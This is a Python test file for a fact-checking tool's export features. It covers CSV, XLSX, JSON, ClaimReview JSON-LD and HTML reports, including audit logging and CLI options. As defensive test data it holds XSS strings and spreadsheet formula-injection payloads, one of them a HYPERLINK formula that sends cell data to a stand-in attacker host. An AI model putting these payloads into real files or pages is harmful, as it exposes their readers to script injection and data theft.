"""Exports read back: CSV with the csv module, XLSX with openpyxl, JSON, ClaimReview JSON-LD
checked field by field against Google's required and recommended properties, the HTML report's
embedded JSON-LD read back with extruct, and the report rendered to PDF and PNG by Chromium."""
from __future__ import annotations

import io
import json
import os
import re
import shutil
import subprocess
import tracemalloc
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import insert
from sqlmodel import select
from typer.testing import CliRunner

from tests.conftest import token_env
from tests.test_review import add_people, cli_app
from verifier.db import audit
from verifier.db.models import VERDICTS, AuditEvent, Claim, Document, Evidence
from verifier.db.reviews import record_verdict
from verifier.db.store import Store, close_stores, open_store
from verifier.report import BrowserMissing, ExportFilters, export, export_to_path
from verifier.report.jsonout import RATING_VALUES
from verifier.report.tabular import COLUMNS, read_csv

HOSTILE = "</script><script>alert(1)</script> & <b>gras</b> =HYPERLINK(\"http://x\")"
ORG, ORG_URL = "Les Vérificateurs", "https://verif.example.org/fact-checks"


@pytest.fixture(autouse=True)
def organisation(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("VERIFIER_ORGANISATION", ORG)
    monkeypatch.setenv("VERIFIER_ORGANISATION_URL", ORG_URL)


def claim(session: Any, doc: Document, kind: str, text: str, **kw: Any) -> Claim:
    c = Claim(document_id=doc.id, kind=kind, start=doc.text.index(text),
              end=doc.text.index(text) + len(text), text=text, **kw)
    session.add(c)
    session.flush()
    return c


def populate(store: Store) -> dict[str, int]:
    """Two articles, claims of every kind, evidence, reviews by two people. Returns claim ids."""
    add_people(store)
    a_text = ("« Nous n'avons jamais livré d'armes », a déclaré Sergueï Lavrov le 16 octobre 2025. "
              "Huit ans après l'accord, le ministre est en poste depuis 2004. " + HOSTILE)
    b_text = '"We will win," said the minister. The deal was signed in March 2017.'
    ids: dict[str, int] = {}
    with store.write() as s:
        a = Document(sha256="a" * 64, language="fr", text=a_text, title="Lavrov à Rabat <direct>",
                     url="https://news.example.org/lavrov", site="Le Journal", author="Awa Diallo",
                     published=date(2025, 10, 17))
        b = Document(sha256="b" * 64, language="en", text=b_text, title="Minister", url=None,
                     site="The Paper", published=date(2025, 3, 2))
        s.add(a)
        s.add(b)
        s.flush()
        q = claim(s, a, "quote", "« Nous n'avons jamais livré d'armes »", speaker="Sergueï Lavrov",
                  reference="Sergueï Lavrov", finding="consistent", explanation="Verbatim in the transcript.",
                  attrs={"quote_type": "marked", "anonymous": False})
        s.add(Evidence(claim_id=q.id, kind="passage", source_title="Transcript MID", score=98.0,
                       source_url="https://mid.example.ru/transcript", method="align",
                       start=10, end=48, detail={"class": "verbatim"}))
        s.add(Evidence(claim_id=q.id, kind="passage", source_title="Weak", score=40.0,
                       source_url="javascript:alert(1)", method="align"))
        t = claim(s, a, "temporal", "Huit ans après l'accord", value={"timex_type": "DURATION", "value": "P8Y"},
                  finding="contradicted", explanation="The accord was in 2016: nine years.")
        f = claim(s, a, "factual", "le ministre est en poste depuis 2004", finding="consistent")
        h = claim(s, a, "quote", HOSTILE, speaker="<img src=x onerror=alert(1)>", finding="no_evidence")
        bq = claim(s, b, "quote", '"We will win,"', speaker="the minister", reference="John Smith",
                   finding="no_evidence", attrs={"speaker_type": "Person"})
        bt = claim(s, b, "temporal", "March 2017", value={"timex_type": "DATE", "value": "2017-03"},
                   finding="partial")
        ids = {"quote": q.id, "temporal": t.id, "factual": f.id, "hostile": h.id, "b_quote": bq.id,
               "b_temporal": bt.id}  # type: ignore[dict-item]
    record_verdict(store=store, claim_id=ids["quote"], verdict="True", note="Checked <the> transcript",
                   actor="alice", seen_version=1)
    record_verdict(store=store, claim_id=ids["temporal"], verdict="Mostly false", note=None, actor="alice", seen_version=1)
    record_verdict(store=store, claim_id=ids["factual"], verdict="Misattributed", note=None, actor="bob", seen_version=1)
    record_verdict(store=store, claim_id=ids["b_quote"], verdict="Unverifiable", note="no recording", actor="bob", seen_version=1)
    record_verdict(store=store, claim_id=ids["b_quote"], verdict="False", note="found the recording", actor="ada", seen_version=2)
    return ids


def run(store: Store, fmt: str, filters: ExportFilters | None = None, actor: str = "audrey") -> tuple[bytes, Any]:
    buf = io.BytesIO()
    result = export(store=store, fmt=fmt, out=buf, actor=actor, filters=filters)
    return buf.getvalue(), result


def head(store: Store) -> tuple[int, str]:
    with store.read() as session:
        return audit.head(session)


def last_event(store: Store) -> AuditEvent:
    with store.read() as session:
        return session.exec(select(AuditEvent).order_by(AuditEvent.seq.desc())).first()  # type: ignore[union-attr,return-value]


# --- CSV, XLSX, JSON ---------------------------------------------------------------------------


def test_csv_reads_back_with_the_csv_module(store: Store) -> None:
    ids = populate(store)
    seq, digest = head(store)
    data, result = run(store, "csv")
    rows, trailer = read_csv(data.decode("utf-8"))
    assert list(rows[0]) == list(COLUMNS)
    assert len(rows) == 6 == result.rows
    by_id = {int(r["claim_id"]): r for r in rows}
    q = by_id[ids["quote"]]
    assert q["document_title"] == "Lavrov à Rabat <direct>" and q["document_url"] == "https://news.example.org/lavrov"
    assert q["text"] == "« Nous n'avons jamais livré d'armes »" and q["kind"] == "quote"
    assert (q["speaker"], q["reference"]) == ("Sergueï Lavrov", "Sergueï Lavrov")
    assert (q["finding"], q["verdict"], q["reviewer"]) == ("consistent", "True", "alice")
    assert q["note"] == "Checked <the> transcript" and q["reviewed_at"].startswith(str(date.today().year)[:2])
    assert (q["evidence_source"], q["evidence_url"], q["evidence_count"]) == (
        "Transcript MID", "https://mid.example.ru/transcript", "2")
    assert by_id[ids["temporal"]]["value"] == "P8Y"
    assert by_id[ids["hostile"]]["text"] == HOSTILE  # CSV keeps the span exactly
    assert trailer == (f"# verifier export: rows=6 audit_head_seq={seq} audit_head_hash={digest} "
                       f"generated_at={trailer.split('generated_at=')[1].split(' ')[0]} filters={{}}")  # type: ignore[union-attr]
    assert result.head_seq == seq and result.head_hash == digest


def test_csv_says_check_the_attribution_below_the_threshold(store: Store) -> None:
    """The "attribution" column: "check the attribution" for a quote whose confidence is below
    claims.ATTRIBUTION_THRESHOLD; empty for a confident quote, a quote stored before confidences
    existed, and other kinds. The HTML report shows it with the reasons."""
    from verifier.claims import ATTRIBUTION_THRESHOLD

    ids = populate(store)
    with store.write() as s:
        for key, conf in (("quote", ATTRIBUTION_THRESHOLD + 0.2), ("b_quote", ATTRIBUTION_THRESHOLD - 0.1)):
            c = s.get(Claim, ids[key])
            assert c is not None
            c.attrs = {**(c.attrs or {}), "confidence": conf,
                       "reasons": ["no speech verb", "continues the previous quote"]}
            s.add(c)
    rows, _ = read_csv(run(store, "csv")[0].decode("utf-8"))
    by_id = {int(r["claim_id"]): r["attribution"] for r in rows}
    assert by_id[ids["b_quote"]] == "check the attribution"
    assert by_id[ids["quote"]] == by_id[ids["hostile"]] == by_id[ids["temporal"]] == ""
    html = run(store, "html")[0].decode("utf-8")
    assert "check the attribution" in html and "continues the previous quote" in html


@pytest.mark.parametrize("note", ['=HYPERLINK("http://evil.example/?"&A1,"clic")', "+1+cmd|' /C calc'!A0",
                                  "-2+3", "@SUM(1)", "\t=1", "\r=1"])
def test_csv_never_hands_a_formula_to_a_spreadsheet(store: Store, note: str) -> None:
    ids = populate(store)
    record_verdict(store=store, claim_id=ids["factual"], verdict="False", note=note,
                   actor="alice", seen_version=2)
    with store.read() as s:
        stored = s.get(Claim, ids["factual"]).note  # notes are stored stripped
    data, _ = run(store, "csv")
    raw = [r for r in data.decode("utf-8").splitlines() if r.startswith(f"{ids['factual']},")]
    assert raw and f",'{stored[:1]}" in raw[0].replace('"', "")  # the cell starts with '
    rows, _ = read_csv(data.decode("utf-8"))
    assert {int(r["claim_id"]): r for r in rows}[ids["factual"]]["note"] == stored  # read back


def test_xlsx_reads_back_with_openpyxl(store: Store, tmp_path: Path) -> None:
    ids = populate(store)
    seq, digest = head(store)
    path = tmp_path / "claims.xlsx"
    result = export_to_path(store=store, fmt="xlsx", path=path, actor="audrey")
    wb = load_workbook(path, read_only=True)
    rows = list(wb["claims"].iter_rows(values_only=True))
    assert rows[0] == COLUMNS and len(rows) == 7 == result.rows + 1
    by_id = {r[0]: dict(zip(COLUMNS, r, strict=True)) for r in rows[1:]}
    assert by_id[ids["hostile"]]["text"] == HOSTILE  # text, never a formula
    assert by_id[ids["b_quote"]]["verdict"] == "False" and by_id[ids["b_quote"]]["reviewer"] == "ada"
    meta = dict(wb["export"].iter_rows(values_only=True))
    assert meta["audit_head_seq"] == seq and meta["audit_head_hash"] == digest and meta["rows"] == 6
    wb.close()
    cells = load_workbook(path)["claims"]
    assert all(c.data_type != "f" for row in cells.iter_rows() for c in row)


def test_xlsx_opens_ready_to_read(store: Store, tmp_path: Path) -> None:
    """The claims sheet has its header row frozen and bold, an auto-filter over the header and
    every row, and columns as wide as their content needs, within 6..60 characters."""
    from openpyxl.utils import get_column_letter

    ids = populate(store)
    long_note = "x" * 300
    record_verdict(store=store, claim_id=ids["factual"], verdict="False", note=long_note,
                   actor="alice", seen_version=2)
    path = tmp_path / "claims.xlsx"
    export_to_path(store=store, fmt="xlsx", path=path, actor="audrey")
    ws = load_workbook(path)["claims"]
    last = get_column_letter(len(COLUMNS))
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:{last}7" and ws.max_row == 7
    assert all(c.font.b for c in ws[1])
    width = {name: ws.column_dimensions[get_column_letter(i)].width
             for i, name in enumerate(COLUMNS, start=1)}
    assert all(6 <= w <= 60 for w in width.values()), width
    assert width["note"] == 60  # capped: 300 characters would not fit any screen
    assert width["text"] >= len(HOSTILE) * 0.9 or width["text"] == 60
    assert width["claim_id"] < 15 and width["kind"] < 15  # short values, short columns
    assert width["evidence_changed_since_verdict"] >= len("evidence_changed_since_verdict")
    assert width["document_url"] >= len("https://news.example.org/lavrov")
    meta = load_workbook(path)["export"]
    assert meta.column_dimensions["B"].width >= 64  # the audit head's hash is whole


def test_xlsx_without_claims_keeps_its_header_and_filter(store: Store, tmp_path: Path) -> None:
    path = tmp_path / "none.xlsx"
    result = export_to_path(store=store, fmt="xlsx", path=path, actor="audrey",
                            filters=ExportFilters(kind="quote"))
    ws = load_workbook(path)["claims"]
    assert result.rows == 0 and [c.value for c in ws[1]] == list(COLUMNS)
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref.startswith("A1:")


def test_json_has_the_full_detail(store: Store) -> None:
    ids = populate(store)
    seq, digest = head(store)
    data, result = run(store, "json")
    doc = json.loads(data)
    assert doc["audit_head"] == {"seq": seq, "hash": digest} and doc["rows"] == 6 == len(doc["claims"])
    rec = next(r for r in doc["claims"] if r["claim"]["id"] == ids["b_quote"])
    assert rec["document"]["title"] == "Minister" and rec["document"]["language"] == "en"
    assert [(r["reviewer"], r["verdict"]) for r in rec["reviews"]] == [("bob", "Unverifiable"), ("ada", "False")]
    q = next(r for r in doc["claims"] if r["claim"]["id"] == ids["quote"])
    assert [e["source_title"] for e in q["evidence"]] == ["Transcript MID", "Weak"]
    assert q["claim"]["version"] == 2 and q["claim"]["attrs"]["quote_type"] == "marked"


# --- ClaimReview JSON-LD -------------------------------------------------------------------------


# The shape of a ClaimReview as schema.org defines it and Google's Fact Check markup documents
# it (https://schema.org/ClaimReview, https://developers.google.com/search/docs/appearance/
# structured-data/factcheck), written out here so that the test needs no network: for each type,
# the properties it must have and those it may have; nothing else is allowed.
SHAPES: dict[str, tuple[set[str], set[str]]] = {
    "ClaimReview": ({"@type", "url", "claimReviewed", "reviewRating", "author", "itemReviewed",
                     "datePublished"}, {"@id", "reviewBody", "inLanguage"}),
    "Rating": ({"@type", "alternateName", "bestRating", "worstRating"}, {"ratingValue", "name"}),
    "Claim": ({"@type", "appearance"}, {"author", "datePublished", "firstAppearance"}),
    "CreativeWork": ({"@type"}, {"url", "headline", "datePublished"}),
    "Organization": ({"@type", "name"}, {"url"}),
    "Person": ({"@type", "name"}, {"url"}),
}
TEXT_PROPERTIES = {"url", "claimReviewed", "reviewBody", "inLanguage", "datePublished", "name",
                   "alternateName", "headline", "@id"}


def check_shape(node: dict[str, Any], path: str = "ClaimReview") -> None:
    """Every object has exactly the allowed properties of its @type, every text property is a
    non-empty plain string (no markup: ClaimReview carries text), every URL is http(s)."""
    required, optional = SHAPES[node["@type"]]
    keys = set(node)
    assert required <= keys, f"{path}: missing {required - keys}"
    assert keys <= required | optional, f"{path}: unexpected {keys - required - optional}"
    for key, value in node.items():
        if isinstance(value, dict):
            check_shape(value, f"{path}.{key}")
        elif key in TEXT_PROPERTIES:
            assert isinstance(value, str) and value.strip(), f"{path}.{key} = {value!r}"
            if key in ("url", "@id"):
                assert value.startswith(("https://", "http://")), f"{path}.{key} = {value!r}"
        else:
            assert key == "@type" or isinstance(value, int), f"{path}.{key} = {value!r}"


def check_claim_review(cr: dict[str, Any]) -> None:
    """Google's Fact Check structured data: required claimReviewed, reviewRating (alternateName),
    url; recommended author, datePublished, itemReviewed (Claim: author, datePublished,
    appearance, firstAppearance), rating bestRating/worstRating/ratingValue."""
    check_shape(cr)
    assert cr["@type"] == "ClaimReview"
    assert isinstance(cr["claimReviewed"], str) and cr["claimReviewed"]
    assert cr["url"].startswith(ORG_URL + "#claim-")
    rating = cr["reviewRating"]
    assert rating["@type"] == "Rating" and rating["alternateName"] in VERDICTS
    assert rating["alternateName"] != "Not a claim"
    assert (rating["bestRating"], rating["worstRating"]) == (5, 1)
    if rating["alternateName"] in RATING_VALUES:
        assert rating["worstRating"] <= rating["ratingValue"] <= rating["bestRating"]
        assert rating["ratingValue"] == RATING_VALUES[rating["alternateName"]]
    else:
        assert "ratingValue" not in rating
    assert cr["author"] == {"@type": "Organization", "name": ORG, "url": ORG_URL}
    datetime.strptime(cr["datePublished"], "%Y-%m-%d")
    assert cr["inLanguage"] in ("fr", "en")
    item = cr["itemReviewed"]
    assert item["@type"] == "Claim"
    assert item["author"]["@type"] in ("Person", "Organization") and item["author"]["name"]
    datetime.strptime(item["datePublished"], "%Y-%m-%d")
    assert item["appearance"]["@type"] == "CreativeWork"


def test_claimreview_fields_one_by_one(store: Store) -> None:
    ids = populate(store)
    seq, digest = head(store)
    data, result = run(store, "jsonld")
    doc = json.loads(data)
    assert doc["@context"] == "https://schema.org" and doc["auditHead"] == {"seq": seq, "hash": digest}
    graph = {int(cr["url"].rsplit("-", 1)[1]): cr for cr in doc["@graph"]}
    assert set(graph) == {ids["quote"], ids["temporal"], ids["factual"], ids["b_quote"]} and result.rows == 4
    for cr in graph.values():
        check_claim_review(cr)
    q = graph[ids["quote"]]
    # The whole sentence the claim stands in, not the span alone.
    assert q["claimReviewed"] == ("« Nous n'avons jamais livré d'armes », a déclaré Sergueï Lavrov "
                                  "le 16 octobre 2025.")
    assert q["reviewBody"] == "Checked <the> transcript"  # the note, as plain text
    assert q["reviewRating"] == {"@type": "Rating", "alternateName": "True", "ratingValue": 5,
                                 "bestRating": 5, "worstRating": 1}
    assert q["itemReviewed"]["author"] == {"@type": "Person", "name": "Sergueï Lavrov"}
    assert q["itemReviewed"]["datePublished"] == "2025-10-17"
    assert q["itemReviewed"]["appearance"]["url"] == "https://news.example.org/lavrov"
    assert q["itemReviewed"]["firstAppearance"] == {"@type": "CreativeWork", "url": "https://mid.example.ru/transcript"}
    assert q["inLanguage"] == "fr" and q["@id"] == q["url"] == f"{ORG_URL}#claim-{ids['quote']}"
    t = graph[ids["temporal"]]
    assert t["claimReviewed"] == "Huit ans après l'accord, le ministre est en poste depuis 2004."
    assert "reviewBody" not in t  # no note, no review text
    assert t["reviewRating"]["ratingValue"] == 2
    assert t["itemReviewed"]["author"] == {"@type": "Person", "name": "Awa Diallo"}
    assert graph[ids["factual"]]["claimReviewed"] == t["claimReviewed"]
    assert "ratingValue" not in graph[ids["factual"]]["reviewRating"]
    bq = graph[ids["b_quote"]]
    assert bq["claimReviewed"] == '"We will win," said the minister.'
    assert bq["reviewBody"] == "found the recording"  # the note of the current verdict
    assert bq["reviewRating"]["alternateName"] == "False"
    assert bq["itemReviewed"]["author"]["name"] == "John Smith"
    assert bq["inLanguage"] == "en"
    assert len({cr["url"] for cr in graph.values()}) == 4


def test_claimreview_publishes_reviewed_claims_only_and_never_not_a_claim(store: Store) -> None:
    """Unreviewed claims, claims the reviewer found not to be claims and claims of a draft (not
    public yet) get no ClaimReview (in the JSON-LD export and in the HTML report's block); the
    report still lists them."""
    ids = populate(store)
    record_verdict(store=store, claim_id=ids["b_temporal"], verdict="Not a claim", note=None,
                   actor="alice", seen_version=1)
    with store.write() as s:
        draft = Document(sha256="9" * 64, language="en", kind="draft", text="It rained for eight years.",
                         title="Draft", site="The Paper")
        s.add(draft)
        s.flush()
        draft_claim = claim(s, draft, "temporal", "eight years", finding="no_evidence").id
    record_verdict(store=store, claim_id=draft_claim, verdict="False", note=None,  # type: ignore[arg-type]
                   actor="alice", seen_version=1)
    doc = json.loads(run(store, "jsonld")[0])
    published = {int(cr["url"].rsplit("-", 1)[1]) for cr in doc["@graph"]}
    assert published == {ids["quote"], ids["temporal"], ids["factual"], ids["b_quote"]}
    html = run(store, "html")[0].decode("utf-8")
    assert f'id="claim-{ids["b_temporal"]}"' in html and f'id="claim-{ids["hostile"]}"' in html
    assert f'id="claim-{draft_claim}"' in html
    ld = json.loads(html.split('<script type="application/ld+json">', 1)[1].split("</script>")[0])
    assert {int(cr["url"].rsplit("-", 1)[1]) for cr in ld["@graph"]} == published


def test_claimreview_of_a_claim_in_a_very_long_sentence(store: Store) -> None:
    """A "sentence" of a page without punctuation is cut around the claim, at spaces, with
    "…" on the side that was cut; the claim is whole."""
    add_people(store)
    words = " ".join(f"mot{i}" for i in range(400))
    text = f"{words} le traité date de huit ans {words}"
    with store.write() as s:
        d = Document(sha256="c" * 64, language="fr", text=text, title="Sans points", site="Le Journal",
                     url="https://news.example.org/long", published=date(2025, 10, 17))
        s.add(d)
        s.flush()
        c = claim(s, d, "temporal", "huit ans", finding="no_evidence")
        cid = c.id
    record_verdict(store=store, claim_id=cid, verdict="False", note="note", actor="alice",  # type: ignore[arg-type]
                   seen_version=1)
    (cr,) = json.loads(run(store, "jsonld")[0])["@graph"]
    check_claim_review(cr)
    reviewed = cr["claimReviewed"]
    assert reviewed.startswith("… mot") and reviewed.endswith(" …") and "huit ans" in reviewed
    assert len(reviewed) <= 610
    inner = reviewed[2:-2].split(" ")
    assert all(w in text.split(" ") for w in inner)  # cut at spaces, never inside a word


def test_claim_sentence_spans_every_sentence_the_claim_touches() -> None:
    from verifier.db.records import claim_sentence
    from verifier.text import split_sentences

    text = "Premier point. « Nous partons. Nous revenons », dit-il.\nAutre ligne."
    sentences = split_sentences(text, "fr")
    a = text.index("Nous revenons")
    assert claim_sentence(text, sentences, a, a + 13)["text"] == "« Nous partons. Nous revenons », dit-il."
    a = text.index("partons. Nous")
    got = claim_sentence(text, sentences, a, a + len("partons. Nous"))
    assert got["text"] == "« Nous partons. Nous revenons », dit-il." and not got["cut_before"]
    assert claim_sentence(text, [], 5, 10) == {"start": 5, "end": 10, "text": text[5:10],
                                               "cut_before": False, "cut_after": False}
    big = "x" * 2000  # one word longer than the limit: the claim alone, never cut inside
    got = claim_sentence(big + " huit ans " + big, split_sentences(big + " huit ans " + big),
                         2001, 2009)
    assert got["text"] == "huit ans" and got["cut_before"] and got["cut_after"]


def test_claimreview_needs_an_organisation(store: Store, tmp_path: Path,
                                           monkeypatch: pytest.MonkeyPatch) -> None:
    """No organisation set: the ClaimReview export is refused before anything is written or
    audited (it was signed "verifier newsroom", https://example.org); the HTML report is written
    without its ClaimReview block and says why. The settings file sets it; the environment
    takes precedence over the file."""
    from verifier.db.settings import write_organisation
    from verifier.report import ExportError

    populate(store)
    monkeypatch.delenv("VERIFIER_ORGANISATION")
    monkeypatch.delenv("VERIFIER_ORGANISATION_URL")
    before = head(store)
    with pytest.raises(ExportError, match="no organisation is set.*verifier setup"):
        run(store, "jsonld")
    out = tmp_path / "cr.json"
    with pytest.raises(ExportError, match="no organisation"):
        export_to_path(store=store, fmt="jsonld", path=out, actor="audrey")
    assert head(store) == before and not out.exists() and not list(tmp_path.glob(".*part"))
    html = run(store, "html")[0].decode("utf-8")
    assert "application/ld+json" not in html and "No ClaimReview markup" in html
    assert "<title>Fact-check report</title>" in html and "example.org/fact-checks" not in html
    write_organisation(tmp_path / "verifier.toml", "La Rédaction", "https://redaction.example.net/verif")
    cr = json.loads(run(store, "jsonld")[0])["@graph"][0]
    assert cr["author"] == {"@type": "Organization", "name": "La Rédaction",
                            "url": "https://redaction.example.net/verif"}
    assert cr["url"].startswith("https://redaction.example.net/verif#claim-")
    monkeypatch.setenv("VERIFIER_ORGANISATION", "Env Desk")
    cr = json.loads(run(store, "jsonld")[0])["@graph"][0]
    assert cr["author"]["name"] == "Env Desk" and cr["author"]["url"].startswith("https://redaction")


def test_base_url_must_be_http(store: Store) -> None:
    """--base-url becomes every ClaimReview's url: a javascript: or relative one is refused."""
    from verifier.report import ExportError

    populate(store)
    for bad in ("javascript:alert(1)", "/reports/2025", "https://x.example.org/r#top"):
        with pytest.raises(ExportError, match="--base-url"):
            export(store=store, fmt="jsonld", out=io.BytesIO(), actor="audrey", base_url=bad)
    buf = io.BytesIO()
    export(store=store, fmt="jsonld", out=buf, actor="audrey",
           base_url="https://verif.example.org/reports/2025-10")
    urls = [cr["url"] for cr in json.loads(buf.getvalue())["@graph"]]
    assert urls and all(u.startswith("https://verif.example.org/reports/2025-10#claim-") for u in urls)


# --- HTML ---------------------------------------------------------------------------------------


def test_html_embeds_the_same_jsonld_and_escapes_everything(store: Store) -> None:
    import extruct

    ids = populate(store)
    ld_bytes, _ = run(store, "jsonld", ExportFilters(document_id=None))
    # Same snapshot head for both: nothing but the export event happened in between, so compare
    # the graphs, and the heads separately.
    html_bytes, result = run(store, "html")
    html = html_bytes.decode("utf-8")
    found = extruct.extract(html, syntaxes=["json-ld"], uniform=False)["json-ld"]
    assert len(found) == 1
    embedded = found[0]
    assert embedded["@graph"] == json.loads(ld_bytes)["@graph"]
    assert embedded["auditHead"] == {"seq": result.head_seq, "hash": result.head_hash}
    for cr in embedded["@graph"]:
        check_claim_review(cr)
    # Document text is escaped; the one <script> is the JSON-LD block.
    assert html.count("<script") == 1 and "alert(1)</script>" not in html
    assert "&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt; &amp; &lt;b&gt;gras&lt;/b&gt;" in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html and "<img" not in html
    assert 'href="javascript:' not in html
    assert "Lavrov à Rabat &lt;direct&gt;" in html
    # Self-contained: no element loads anything; links are in-page anchors or http(s) links.
    tags = parse_tags(html)
    assert {t for t, _ in tags} <= {"html", "head", "meta", "title", "style", "body", "header",
                                    "h1", "h2", "h3", "p", "span", "code", "nav", "a", "div",
                                    "table", "colgroup", "col", "tr", "th", "td", "figure",
                                    "figcaption", "section", "article", "blockquote", "mark",
                                    "dl", "dt", "dd", "ul", "li", "strong", "footer", "script"}
    assert not [a for _, attrs in tags for a in attrs if a[0] in ("src", "srcset", "data", "action")]
    hrefs = [v for _, attrs in tags for k, v in attrs if k == "href"]
    assert hrefs and all(h.startswith(("#", "https://")) for h in hrefs), hrefs
    assert "@import" not in html and "url(" not in html
    assert html.count("<figure class=chart>") == 4 and "@media print" in html
    for caption in ("Findings per document", "Verdicts per document", "Verdicts per reviewer",
                    "Findings of the claims each reviewer reviewed"):
        assert f"<figcaption>{caption}</figcaption>" in html
    assert 'title="alice: Mostly false 1"' in html  # bar tooltips name reviewer and count
    # Only the fixed colours are inline styles; nothing from a document is.
    styles = [v for _, attrs in tags for k, v in attrs if k == "style"]
    assert styles and all(re.fullmatch(r"(width:[\d.]+%;)?background:#[0-9a-f]{6}|width:[\d.]+em", v)
                          for v in styles), styles
    # Each claim stands in its sentence, the claim marked, all of it escaped.
    assert ("<blockquote><mark>« Nous n&#x27;avons jamais livré d&#x27;armes »</mark>, a déclaré "
            "Sergueï Lavrov le 16 octobre 2025.</blockquote>") in html
    assert ("<blockquote><mark>Huit ans après l&#x27;accord</mark>, le ministre est en poste "
            "depuis 2004.</blockquote>") in html
    assert ("<blockquote>Huit ans après l&#x27;accord, <mark>le ministre est en poste depuis "
            "2004</mark>.</blockquote>") in html
    assert "<mark>&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt; &amp; &lt;b&gt;gras" in html
    assert f'id="claim-{ids["quote"]}"' in html and f'data-seq="{result.head_seq}"' in html
    assert result.rows == 6


def parse_tags(html: str) -> list[tuple[str, list[tuple[str, str]]]]:
    from html.parser import HTMLParser

    tags: list[tuple[str, list[tuple[str, str]]]] = []

    class P(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            tags.append((tag, [(k, v or "") for k, v in attrs]))

    P().feed(html)
    return tags


# --- filters, audit, CLI ----------------------------------------------------------------------


@pytest.mark.parametrize("filters, expected", [
    (ExportFilters(status="reviewed"), {"quote", "temporal", "factual", "b_quote"}),
    (ExportFilters(status="unreviewed"), {"hostile", "b_temporal"}),
    (ExportFilters(verdict="mostly false"), {"temporal"}),
    (ExportFilters(reviewer="bob"), {"factual"}),
    (ExportFilters(reviewer="ada"), {"b_quote"}),
    (ExportFilters(kind="temporal"), {"temporal", "b_temporal"}),
    (ExportFilters(since=date(2000, 1, 1)), {"quote", "temporal", "factual", "b_quote"}),
    (ExportFilters(until=date(2000, 1, 1)), set()),
    (None, {"quote", "temporal", "factual", "b_quote"}),  # since and until the day of the review
])
def test_filters(db_url: str, filters: ExportFilters | None, expected: set[str]) -> None:
    store = open_store(db_url)
    # "Today" is read around the reviews, not when the parameters are collected: a run that
    # crosses midnight (as CI once did) would otherwise filter on yesterday.
    before = datetime.now(UTC).date()
    ids = populate(store)
    if filters is None:
        filters = ExportFilters(since=before, until=datetime.now(UTC).date())
    data, result = run(store, "csv", filters)
    rows, trailer = read_csv(data.decode())
    names = {k for k, v in ids.items() if v in {int(r["claim_id"]) for r in rows}}
    assert names == expected and result.rows == len(expected)
    assert json.dumps(filters.as_dict(), sort_keys=True, separators=(",", ":")) in trailer  # type: ignore[operator]
    close_stores()


def test_filter_by_document_and_bad_filters(store: Store) -> None:
    ids = populate(store)
    with store.read() as s:
        doc_b = s.get(Claim, ids["b_quote"]).document_id  # type: ignore[union-attr]
    _, result = run(store, "json", ExportFilters(document_id=doc_b))
    assert result.rows == 2
    with pytest.raises(ValueError, match="unknown verdict"):
        ExportFilters(verdict="Pants on fire")
    with pytest.raises(ValueError, match="unknown status"):
        ExportFilters(status="done")
    with pytest.raises(ValueError, match="after"):
        ExportFilters(since=date(2025, 2, 1), until=date(2025, 1, 1))


def test_every_export_is_audited_with_its_filters_rows_and_hash(store: Store) -> None:
    populate(store)
    for fmt in ("csv", "xlsx", "json", "jsonld", "html"):
        before = head(store)
        data, result = run(store, fmt, ExportFilters(kind="quote"), actor="audrey")
        ev = last_event(store)
        assert ev.seq == before[0] + 1 == result.audit_seq
        assert ev.action == "export" and ev.actor == "audrey"
        assert ev.new["format"] == fmt and ev.new["filters"] == {"kind": "quote"}
        assert ev.new["rows"] == result.rows and ev.new["head_seq"] == before[0]
        assert ev.new["head_hash"] == before[1] and ev.new["bytes"] == len(data)
        import hashlib
        assert ev.new["sha256"] == hashlib.sha256(data).hexdigest()
    with store.read() as session:
        assert audit.verify_chain(session).ok


def as_auditor(store: Store, monkeypatch: pytest.MonkeyPatch) -> None:
    """The CLI exports as an authenticated auditor: audrey's token (scope audit)."""
    monkeypatch.setenv("VERIFIER_DATABASE_URL", store.url)
    monkeypatch.setenv("VERIFIER_TOKEN", token_env(store, "audrey", "audit")["VERIFIER_TOKEN"])


def test_cli_export(store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    populate(store)
    monkeypatch.setenv("VERIFIER_DATABASE_URL", store.url)
    runner, app = CliRunner(), cli_app()
    out = tmp_path / "r.html"
    before = head(store)
    res = runner.invoke(app, ["export", "--format", "html", "--out", str(out)])
    assert res.exit_code == 2 and "authenticate" in res.output  # an export names a person
    assert head(store) == before and not out.exists()
    as_auditor(store, monkeypatch)
    res = runner.invoke(app, ["export", "--format", "xlsx"])
    assert res.exit_code == 2 and "--out" in res.output
    res = runner.invoke(app, ["export", "--format", "html", "--out", str(out), "--reviewer", "alice"])
    assert res.exit_code == 0, res.output
    assert "exported 2 rows" in res.output and out.read_text().startswith("<!doctype html>")
    ev = last_event(store)
    assert (ev.action, ev.actor, ev.channel) == ("export", "audrey", "cli")
    assert not list(tmp_path.glob(".*part"))
    res = runner.invoke(app, ["export", "--format", "csv", "--since", "yesterday"])
    assert res.exit_code == 2 and "YYYY-MM-DD" in res.output
    res = runner.invoke(app, ["export", "--format", "csv", "--verdict", "Bogus"])
    assert res.exit_code == 2 and "unknown verdict" in res.output
    res = runner.invoke(app, ["export", "--format", "jsonld", "--kind", "quote"])
    assert res.exit_code == 0 and '"@type":"ClaimReview"' in res.output


def test_cli_export_never_overwrites_without_force_nor_the_database(
        store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    populate(store)
    as_auditor(store, monkeypatch)
    runner, app = CliRunner(), cli_app()
    out = tmp_path / "report.csv"
    out.write_text("someone's work")
    res = runner.invoke(app, ["export", "--format", "csv", "--out", str(out)])
    assert res.exit_code == 2 and "exists; give --force" in res.output
    assert out.read_text() == "someone's work"
    res = runner.invoke(app, ["export", "--format", "csv", "--out", str(out), "--force"])
    assert res.exit_code == 0 and out.read_text().startswith("claim_id,")
    # A symbolic link is replaced, never written through.
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    link = tmp_path / "link.csv"
    link.symlink_to(victim)
    res = runner.invoke(app, ["export", "--format", "csv", "--out", str(link), "--force"])
